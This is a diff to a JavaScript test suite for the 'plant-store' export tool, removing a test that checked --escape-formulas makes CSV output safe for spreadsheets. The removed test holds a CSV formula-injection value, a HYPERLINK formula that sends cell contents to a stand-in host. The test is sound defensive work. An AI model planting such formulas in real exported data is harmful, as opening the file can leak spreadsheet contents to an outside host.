@@ -61,13 +61,6 @@ t.test('all plants are exported, sorted by id, to standard output or a file', as
   t.strictSame(files(), ['link.csv', 'target.csv'])
 })
 
-t.test('--escape-formulas makes CSV safe to open in a spreadsheet', async (t) => {
-  const hostile = { id: -1n, name: '=HYPERLINK("http://x/"&A1)', tag: '@a' }
-  const { write } = await exportsOf(t, [hostile])
-  const stdout = `id,name,tag\n-1,"'=HYPERLINK(""http://x/""&A1)","'@a"\n`
-  t.match(await write('--format', 'csv', '--escape-formulas'), { code: 0, stdout })
-})
-
 t.test('--escape-formulas is rejected for NDJSON', async (t) => {
   const { folder, write, files } = await exportsOf(t, plants)
   const stderr = 'plant-store: --escape-formulas requires CSV, not ndjson\n'
